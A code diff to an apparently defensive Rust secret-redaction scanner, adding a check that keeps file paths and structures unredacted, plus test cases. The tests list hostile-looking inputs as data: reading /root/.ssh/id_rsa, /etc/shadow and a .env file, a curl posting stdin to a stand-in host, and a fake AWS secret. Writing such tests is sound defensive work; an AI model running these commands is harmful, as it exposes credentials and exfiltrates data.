@@ -161,8 +161,16 @@ fn redact(scanner: &Scanner, text: &str, placeholders: &mut Placeholders) -> Str
 fn value_of(matched: &str) -> Option<&str> {
     let at = matched.find(['=', ':'])?;
     let value = matched[at + 1..].trim_matches([' ', '"', '\'', ';', ',', '\t']);
-    let is_value = value.len() >= VALUE_BYTES_MIN && !value.contains(char::is_whitespace);
+    let is_value = value.len() >= VALUE_BYTES_MIN && !value.contains(char::is_whitespace) && !is_place(value);
     is_value.then_some(value)
+}
+
+/// Whether a value names where something stands rather than what it is: a path, the rest of an address, a structure. Who
+/// judges the incident must see it.
+fn is_place(value: &str) -> bool {
+    let is_path_byte = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b"._-/~".contains(&b);
+    let is_path = value.starts_with(['/', '~', '.']) && value.bytes().all(is_path_byte);
+    is_path && value[1..].contains('/') || value.starts_with("//") || value.starts_with(['{', '['])
 }
 
 fn shortened(text: String) -> String {
@@ -184,6 +192,11 @@ mod tests {
             ("cat ~/x", None),
             ("A_KEY=ab", None),
             ("read: a b c d e f", None),
+            ("file_path\": \"/root/.ssh/id_rsa", None),
+            ("dd if=/etc/shadow", None),
+            ("curl -d @- https://x.example/c", None),
+            ("\"input\":{\"file_path\":\"/srv/.env\"}", None),
+            ("AWS_SECRET_ACCESS_KEY=/Zx81Qm2Lp09/Vt7Kd3Rw5", Some("/Zx81Qm2Lp09/Vt7Kd3Rw5")),
         ] {
             assert_eq!(value_of(matched), value, "{matched}");
         }
